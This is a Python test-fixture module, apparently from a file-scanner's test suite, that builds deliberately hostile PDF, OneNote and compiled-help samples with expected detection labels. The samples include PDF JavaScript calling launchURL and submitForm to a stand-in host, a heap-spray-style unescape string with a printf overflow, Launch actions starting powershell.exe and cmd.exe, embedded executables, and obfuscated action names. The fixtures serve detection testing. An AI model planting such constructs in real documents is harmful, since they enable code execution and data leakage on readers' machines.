"""PDF files that act, whole and broken; notebooks and help files."""

import zlib
from collections.abc import Callable
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream, String

from tests.samples.archives import iso_of
from tests.samples.documents import hidden, macro_document, notebook, pdf
from tests.samples.files import jpeg, pe, shortcut, zip_of
from tests.samples.hostile.cases import Case, Severity, single

HIGH, MEDIUM, LOW = Severity.HIGH, Severity.MEDIUM, Severity.LOW
HOST = "files.example.net"
HELP = b"ITSF\3\0\0\0\x60\0\0\0\1\0\0\0" + bytes(240) + b"\0/#SYSTEM\0/start.htm\0"


def cases() -> list[Case]:
    """PDF scripts, actions, attachments, broken PDF, locked PDF, notebooks and compiled help."""
    return [*_scripts(), *_actions(), *_attachments(), *_broken(), *_locked(), *_notebooks(), *_help()]


def _opening(action: Any) -> Callable[[Any], None]:
    return lambda document: document.Root.__setitem__("/OpenAction", document.make_indirect(action))


def _script(text: str) -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String(text))


def _scripts() -> list[Case]:
    def stream(document: Any) -> None:
        document.Root["/OpenAction"] = Dictionary(
            S=Name.JavaScript, JS=Stream(document, b"app.launchURL('http://files.example.net', true);")
        )

    def named(document: Any) -> None:
        document.Root["/Names"] = Dictionary(
            JavaScript=Dictionary(Names=Array([String("a"), _script("this.submitForm('http://files.example.net')")]))
        )

    def on_page(document: Any) -> None:
        document.pages[0]["/AA"] = Dictionary(O=_script("var a = unescape('%u9090%u9090%u9090%u9090%u4141'); util.printf('%45000f', 1)"))

    def form(document: Any) -> None:
        xml = b'<xdp><template><script contentType="application/x-javascript">xfa.host.gotoURL("http://files.example.net"); app.launchURL("x")</script></template></xdp>'
        document.Root["/AcroForm"] = Dictionary(XFA=Stream(document, xml), Fields=Array([]))

    builds = [_opening(_script("app.alert('x'); this['exp' + 'ortData']();")), stream, named, on_page, form]
    files = [pdf(build) for build in builds]
    files += [hidden(files[1]), hidden(files[3])]
    return [single("PDF: script", f"Programme {n}.pdf", body, "pdf.javascript") for n, body in enumerate(files)]


def _actions() -> list[Case]:
    def clicked(action: Any) -> Callable[[Any], None]:
        note = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 99, 99]), A=action)
        return lambda document: document.pages[0].__setitem__("/Annots", Array([document.make_indirect(note)]))

    share = String(f"\\\\{HOST}\\share\\a.pdf")
    builds = [
        _opening(Dictionary(S=Name.Launch, Win=Dictionary(F=String("powershell.exe"), P=String("-c ver")))),
        clicked(Dictionary(S=Name.Launch, F=String("Photos/viewer.exe"))),
        clicked(Dictionary(S=Name.Launch, F=Dictionary(Type=Name.Filespec, UF=String("run.lnk")))),
        _opening(Dictionary(S=Name.GoToE, F=share, D=Array([0, Name.Fit]))),
        _opening(Dictionary(S=Name.GoToR, F=share, D=Array([0, Name.Fit]))),
        _opening(Dictionary(S=Name.URI, URI=String(f"file://{HOST}/s/a"))),
        _opening(Dictionary(S=Name.GoTo, D=Array([]), Next=Dictionary(S=Name.Launch, F=String("a.bat")))),
    ]
    files = [pdf(build) for build in builds]
    files.append(hidden(files[0]))
    return [single("PDF: starts something outside", f"Map {n}.pdf", body, "pdf.launch", least=HIGH) for n, body in enumerate(files)]


def _attachments() -> list[Case]:
    def with_file(name: str, body: bytes) -> bytes:
        def build(document: Any) -> None:
            document.attachments[name] = pikepdf.AttachedFileSpec(document, body, filename=name)

        return pdf(build)

    bodies = [
        ("viewer.exe", pe(), HIGH),
        ("notes.docm", macro_document({"M": "Sub AutoOpen()\n x = 1\nEnd Sub"}), HIGH),
        ("order.txt", pe(), HIGH),
        ("disc.iso", iso_of({"a.lnk": shortcut("C:\\a.exe", "/x")}), MEDIUM),
        ("open.js", b"var a = 1;", HIGH),
    ]
    return [
        single("PDF: carries a file", f"Invoice {n}.pdf", with_file(name, body), "pdf.embedded-file", least=least)
        for n, (name, body, least) in enumerate(bodies)
    ]


def _broken() -> list[Case]:
    def loose(*objects: bytes) -> bytes:
        return b"%PDF-1.6\n" + b"".join(b"%d 0 obj\n%s\nendobj\n" % (n, body) for n, body in enumerate(objects, 1))

    catalogue = b"<</Type/Catalog/OpenAction 2 0 R/Pages 9 0 R>>"
    packed = zlib.compress(b"2 0 <</S/J#61v#61Script/JS(app.launchURL\\('x'\\))>>")
    stream = b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>\nstream\n%s\nendstream" % (len(packed), packed)
    files = [
        (loose(catalogue, b"<</S/JavaScript/JS(this.exportDataObject\\({nLaunch:2}\\))>>"), "pdf.javascript", MEDIUM),
        (loose(catalogue, b"<</S/#4caunch/F(cmd.exe)>>"), "pdf.launch", HIGH),
        (loose(catalogue, stream), "pdf.javascript", MEDIUM),
        (loose(catalogue, b"<</S/GoToE/F(\\\\\\\\files.example.net\\\\s\\\\a)/D[0/Fit]>>"), "pdf.launch", HIGH),
        (loose(catalogue, b"<</Type/Filespec/F(a.exe)/EF<</F 3 0 R>>>>", b"<</Type/EmbeddedFile>>"), "pdf.embedded-file", MEDIUM),
        (b"%PDF-1.3\n<</AA<</O<</S/SubmitForm/F(http://files.example.net)>>>>>>", "pdf.launch", MEDIUM),
    ]
    return [
        single("PDF: broken on purpose", f"Broken {n}.pdf", body, finding, least=least) for n, (body, finding, least) in enumerate(files)
    ]


def _locked() -> list[Case]:
    plain = pdf(encryption=pikepdf.Encryption(owner="o" * 9, user="u" * 9, R=6))
    old = pdf(encryption=pikepdf.Encryption(owner="o" * 9, user="u" * 9, R=4))
    return [single("PDF: locked", f"Contract {n}.pdf", body, "pdf.encrypted", least=LOW) for n, body in enumerate((plain, old))]


def _notebooks() -> list[Case]:
    contents = [
        [("Open me.hta", b"<html>x</html>"), ("", jpeg())],
        [("Document.docx", pe())],
        [("", b"@echo off\r\nver\r\n"), ("", jpeg())],
        [("plan.lnk", shortcut("C:\\a.exe", "/x"))],
        [("a.zip", zip_of({"a.js": b"1"}))],
        [("note.wsf", b"<job><script language='JScript'>1</script></job>"), ("", jpeg())],
    ]
    return [
        single("notebook that carries a file", f"Notes {n}.one", notebook(*files), "onenote.embedded-file")
        for n, files in enumerate(contents)
    ]


def _help() -> list[Case]:
    files = [
        (HELP + b"<object classid='CLSID:52A2AAAE-085D-4187-97EA-8C30DB990436'><param name='Command' value='ShortCut'>", HIGH),
        (HELP + b"\x0b/data/go.hta\0\1", MEDIUM),
        (HELP, LOW),
    ]
    return [single("compiled help", f"Manual {n}.chm", body, "help.chm", least=least) for n, (body, least) in enumerate(files)]
